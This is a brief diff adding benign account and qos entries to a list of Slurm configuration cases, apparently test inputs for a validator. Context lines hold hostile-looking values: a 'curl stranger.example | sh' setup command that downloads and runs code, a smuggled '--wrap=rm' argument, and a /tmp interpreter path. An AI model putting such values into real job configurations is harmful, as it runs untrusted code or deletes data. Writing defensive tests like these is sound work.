@@ -82,6 +82,8 @@ DOORS = [
     {"slurm": {"setup": "curl stranger.example | sh"}},
     {"slurm": {"extra": ["--wrap=rm"]}},
     {"slurm": {"python": "/tmp/python"}},
+    {"slurm": {"account": "q123"}},
+    {"slurm": {"qos": "night"}},
 ]
 
 
